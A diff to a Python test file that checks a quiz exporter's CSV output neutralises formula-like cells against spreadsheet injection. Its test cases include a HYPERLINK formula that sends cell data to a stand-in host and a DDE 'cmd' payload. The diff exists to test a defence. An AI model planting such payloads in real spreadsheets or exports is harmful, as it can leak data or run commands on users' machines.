@@ -6,13 +6,15 @@ from __future__ import annotations
 import csv
 import io
 
-from lms_fixtures import BANK, QUESTIONS
+from lms_fixtures import BANK, NASTY, QUESTIONS
 
-from quizgen.outputs.exporters.csv_export import COLUMNS, to_csv
+from quizgen.outputs.exporters.csv_export import COLUMNS, neutralise, to_csv, unneutralise
 
 
 def _rows(data: bytes) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    """The rows as a program reads them: the `'` neutralise() put before formula-like text taken off again."""
+    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    return [{k: unneutralise(v) for k, v in r.items()} for r in rows]
 
 
 def test_bom_header_and_crlf():
@@ -53,3 +55,31 @@ def test_a_subset_and_an_empty_explanation():
     rows = _rows(to_csv(BANK, QUESTIONS[3:4]))
     assert [r["id"] for r in rows] == ["plain/number-value"]
     assert rows[0]["explanation"] == "" and rows[0]["quote"] == ""
+
+
+def test_formula_like_cells_are_neutralised_as_owasp_recommends():
+    raw = list(csv.reader(io.StringIO(to_csv(BANK).decode("utf-8-sig"), newline="")))
+    nasty = dict(zip(COLUMNS, raw[1], strict=True))
+    assert nasty["option_a"] == "'=right-looking but wrong " + NASTY  # a spreadsheet shows it, never runs it
+    assert nasty["option_b"] == "~tilde first"
+    for cell in (c for r in raw for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_neutralise_round_trips_and_adds_one_quote_only_where_needed():
+    cases = {
+        "=1+1": "'=1+1",
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+        "-2+3": "'-2+3",
+        "@SUM(1+1)": "'@SUM(1+1)",
+        "\tx": "'\tx",
+        "\rx": "'\rx",
+        "'=already quoted": "''=already quoted",
+        "it's = fine": "it's = fine",
+        "'plain quote": "'plain quote",
+        "April 2025": "April 2025",
+    }
+    for text, written in cases.items():
+        assert neutralise(text) == written
+        assert unneutralise(written) == text
